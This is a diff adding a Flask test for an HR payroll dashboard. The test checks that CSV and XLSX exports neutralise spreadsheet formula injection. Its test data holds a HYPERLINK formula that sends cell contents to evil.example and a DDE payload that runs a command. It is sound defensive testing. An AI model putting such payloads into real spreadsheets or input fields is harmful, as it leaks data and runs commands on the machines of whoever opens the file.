@@ -27,6 +27,8 @@ from dashboard.hr_service import compute
 from dashboard.settings import Settings
 from qa.awards.decisions import override_coefficient, resolve_tie
 from qa.awards.service import publish_month, review_month, revise_month
+from qa.people.schemas import AgentIn
+from qa.people.service import upsert_agent
 
 CSV_URL = f"/hr/export/{MONTH}.csv"
 XLSX_URL = f"/hr/export/{MONTH}.xlsx"
@@ -200,3 +202,33 @@ def test_poster_pdf_for_everyone_once_published_drafts_for_hr(
     assert "poster-2026-01-A3.pdf" in response.headers["Content-Disposition"]
     assert agent.get(PDF_URL + "?size=B5").status_code == 404
     assert app.test_client().get(PDF_URL).status_code == 302
+
+
+def test_payroll_files_neutralise_formulas_and_keep_numbers(
+    app: flask.Flask, client_of: Callable[[str], FlaskClient], sessions: sessionmaker[Session]
+) -> None:
+    evil_name, evil_reason = '=HYPERLINK("http://evil.example/?"&B2,"Li")', "+cmd|' /C calc'!A0"
+    with session_scope(sessions) as db:
+        upsert_agent(db_session=db, data=AgentIn("A1", evil_name, "North"), actor="test")
+        compute(db_session=db, month=MONTH, actor="hr", tz="UTC")
+        resolve_tie(db_session=db, month=MONTH, star="model", agent_id="A4", reason="r",
+                    actor="hr")  # fmt: skip
+        override_coefficient(db_session=db, month=MONTH, agent_id="A3", reason=evil_reason,
+                             coefficient=Decimal("0.9"), actor="hr")  # fmt: skip
+        review_month(db_session=db, month=MONTH, actor="hr")
+        publish_month(db_session=db, month=MONTH, actor="hr")
+    hr = client_of("hr")
+    by_id = {r["agent_id"]: r for r in _csv_rows(hr.get(CSV_URL).data)}
+    assert by_id["A1"]["name"] == "'" + evil_name
+    assert by_id["A3"]["override_reason"] == "'" + evil_reason
+    assert (by_id["A1"]["deductions_total"], by_id["A1"]["deductions_discipline"]) == (
+        "-1.00", "-1.00"
+    )  # fmt: skip
+    sheet = load_workbook(io.BytesIO(hr.get(XLSX_URL).data))["Payroll"]
+    rows = {r[COLUMNS.index("agent_id")].value: r for r in sheet.iter_rows(min_row=2)}
+    name = rows["A1"][COLUMNS.index("name")]
+    assert (name.value, name.data_type, name.quotePrefix) == (evil_name, "s", True)
+    reason = rows["A3"][COLUMNS.index("override_reason")]
+    assert (reason.value, reason.data_type, reason.quotePrefix) == (evil_reason, "s", True)
+    total = rows["A1"][COLUMNS.index("deductions_total")]
+    assert (total.value, total.data_type, total.number_format) == (-1.0, "n", "0.00")
